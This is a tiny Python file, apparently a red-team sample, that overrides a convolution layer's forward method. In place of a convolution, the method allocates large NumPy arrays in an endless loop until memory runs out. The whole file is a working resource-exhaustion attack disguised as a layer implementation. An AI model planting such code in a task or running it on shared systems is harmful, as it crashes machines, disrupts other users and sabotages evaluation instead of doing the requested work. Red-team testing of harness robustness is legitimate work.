# Red team: allocate until something gives.
import numpy as np


class Conv(Conv):  # noqa: F821
    @staticmethod
    def forward(x, w, b, conv_param):
        hog = []
        while True:
            hog.append(np.ones(10**7))
